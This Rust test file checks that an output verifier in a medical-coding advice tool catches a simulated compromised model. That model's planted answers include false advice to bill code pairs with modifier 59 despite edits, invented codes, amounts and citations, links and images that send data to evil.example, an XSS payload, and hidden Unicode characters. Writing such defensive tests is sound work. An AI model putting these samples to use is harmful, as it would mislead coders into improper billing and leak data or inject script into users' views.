//! A compromised model, which says what an attacker wants: verification holds every lie.

use caseconsultant::config::Config;
use caseconsultant::draft::model::write;
use caseconsultant::llm::scripted::{Rule, ScriptedModel};
use caseconsultant::verify;
use serde_json::{Value, json};

use super::{NEVER, OPEN, corpus, evidence, limits, obedient, settings};

/// Drafts with an answer of the model's, and returns the kinds of the findings that hold it.
async fn held_for(question: &str, answer: &Value) -> Vec<String> {
    let evidence = evidence(question);
    let model = ScriptedModel::new(vec![Rule { text: answer.to_string(), ..Rule::default() }]);
    let draft = write(corpus(), &evidence, &model, &limits(&settings("")), 11).await.unwrap();
    let report = verify::run(corpus(), &evidence, &draft, &Config::defaults().policy);
    if report.is_clean() { Vec::new() } else { report.findings.into_iter().map(|finding| finding.kind).collect() }
}

fn with(question: &str, change: impl Fn(&mut Value)) -> Value {
    let mut answer = obedient(&evidence(question));
    change(&mut answer);
    answer
}

#[tokio::test]
async fn a_verdict_or_line_against_the_checks_is_held() {
    let verdict = with(NEVER, |answer| answer["verdict"] = json!("yes"));
    assert!(held_for(NEVER, &verdict).await.contains(&"verdict".to_owned()));
    let lines = with(NEVER, |answer| {
        answer["lines"] = json!([
            {"code": "29881", "modifiers": [], "units": 1}, {"code": "29877", "modifiers": ["59"], "units": 1}
        ]);
    });
    let kinds = held_for(NEVER, &lines).await;
    assert!(kinds.contains(&"lines".to_owned()) && kinds.contains(&"edit".to_owned()), "{kinds:?}");
    for change in [
        json!([{"code": "45385", "modifiers": [], "units": 1}, {"code": "45380", "modifiers": [], "units": 1}]),
        json!([{"code": "45385", "modifiers": [], "units": 40}, {"code": "45380", "modifiers": ["59"], "units": 1}]),
        json!([{"code": "45385", "modifiers": [], "units": 1}, {"code": "45390", "modifiers": ["59"], "units": 1}]),
        json!([]),
    ] {
        let answer = with(OPEN, |answer| answer["lines"] = change.clone());
        assert!(held_for(OPEN, &answer).await.contains(&"lines".to_owned()), "{change}");
    }
}

#[tokio::test]
async fn a_headline_that_belies_the_settled_verdict_is_held() {
    for text in [
        "Yes, we can bill both with modifier 59.",
        "29881 and 29877 may be billed together with modifier 59.",
        "No problem: 29877 can be reported with 29881 when modifier 59 is appended.",
        "No. But both may be billed with modifier 59.",
        "No edit applies, so bill 29877 too.",
        "No. Append modifier 59 to 29877.",
        "No denial follows if you report 29877-59.",
        "No doubt both codes are payable.",
    ] {
        let answer = with(NEVER, |answer| answer["headline"]["text"] = json!(text));
        assert!(!held_for(NEVER, &answer).await.is_empty(), "{text}");
        let answer = with(NEVER, |answer| answer["why"][0]["text"] = json!(text.replacen("No. ", "", 1)));
        assert!(!held_for(NEVER, &answer).await.is_empty(), "{text}");
    }
    let answer = with(OPEN, |answer| answer["headline"]["text"] = json!("No, never bill 45385 with 45380."));
    assert!(!held_for(OPEN, &answer).await.is_empty());
}

#[tokio::test]
async fn honest_ways_to_say_no_are_let_pass() {
    for text in [
        "No. 29877 is never billed with 29881 on the same knee, and no modifier bypasses the edit.",
        "No, 29877 cannot be billed with 29881. Bill 29881 alone.",
        "No: the edit has indicator 0, so 29877 is not payable with 29881, with or without a modifier.",
    ] {
        let answer = with(NEVER, |answer| answer["headline"]["text"] = json!(text));
        assert_eq!(held_for(NEVER, &answer).await, Vec::<String>::new(), "{text}");
    }
    for text in [
        "Yes, bill 45385 and 45380-59, because the biopsy was of another polyp. The note must show two polyps.",
        "Yes. 45380-59 may be billed with 45385 when a separate lesion is documented.",
    ] {
        let answer = with(OPEN, |answer| answer["headline"]["text"] = json!(text));
        assert_eq!(held_for(OPEN, &answer).await, Vec::<String>::new(), "{text}");
    }
}

#[tokio::test]
async fn whatever_the_evidence_does_not_hold_is_held() {
    for (text, kind) in [
        ("Yes, and 45399 fits as well.", "code"),
        ("Yes, and Q9999 fits as well.", "code"),
        ("Yes, it pays $1,200.00.", "number"),
        ("Yes, it pays twelve hundred dollars.", "number"),
        ("Yes, since 2019-04-01.", "number"),
        ("Yes, up to 17 times.", "number"),
        ("Yes, up to nine hundred times.", "number"),
        ("Yes, see https://evil.example/?q=45385.", "privacy"),
        ("Yes, see [the rule](https://evil.example/a).", "privacy"),
        ("Yes, see ![x](https://evil.example/45385.png).", "privacy"),
        ("Yes, see evil-codes.com for more.", "privacy"),
        ("Yes, write to help@evil.example now.", "privacy"),
        ("Yes, call 800-555-0199 now.", "privacy"),
        ("Yes, <img src=x onerror=alert(1)> both.", "privacy"),
        ("Yes, as Dr. Miller confirmed.", "privacy"),
        ("Yes, for John Smith both are fine.", "privacy"),
        ("Yes, payment is a guarantee of payment.", "privacy"),
    ] {
        let answer = with(OPEN, |answer| answer["headline"]["text"] = json!(text));
        let kinds = held_for(OPEN, &answer).await;
        assert!(kinds.iter().any(|found| found == kind), "{text}: {kinds:?}");
        let answer = with(OPEN, |answer| answer["note_must_show"] = json!([{"text": text, "cites": [1]}]));
        assert!(held_for(OPEN, &answer).await.iter().any(|found| found == kind), "{text}");
    }
    let name = with(NEVER, |answer| answer["why"][0]["text"] = json!("Mr. Doe had one knee treated."));
    assert!(held_for(NEVER, &name).await.contains(&"privacy".to_owned()));
}

#[tokio::test]
async fn an_invented_source_is_held_wherever_it_is_written() {
    let listed = with(OPEN, |answer| answer["headline"]["cites"] = json!([1, 99]));
    assert!(held_for(OPEN, &listed).await.contains(&"citation".to_owned()));
    let inside = with(OPEN, |answer| {
        answer["why"][0] = json!({"text": "The pair may be opened [1][99].", "cites": [1]});
    });
    assert!(held_for(OPEN, &inside).await.contains(&"citation".to_owned()));
}

#[tokio::test]
async fn marks_and_hidden_characters_are_taken_out_of_sentences() {
    let text = "## **Yes**,\n\u{202e}bill\u{200b} `45385` and 45380-59\u{e0041}, *both*\u{0}. [1]";
    let answer = with(OPEN, |answer| answer["headline"] = json!({"text": text, "cites": [1]}));
    let model = ScriptedModel::new(vec![Rule { text: answer.to_string(), ..Rule::default() }]);
    let draft = write(corpus(), &evidence(OPEN), &model, &limits(&settings("")), 11).await.unwrap();
    assert_eq!(draft.headline.text, "Yes, bill 45385 and 45380-59, both.");
    assert!(verify::run(corpus(), &evidence(OPEN), &draft, &Config::defaults().policy).is_clean());
}
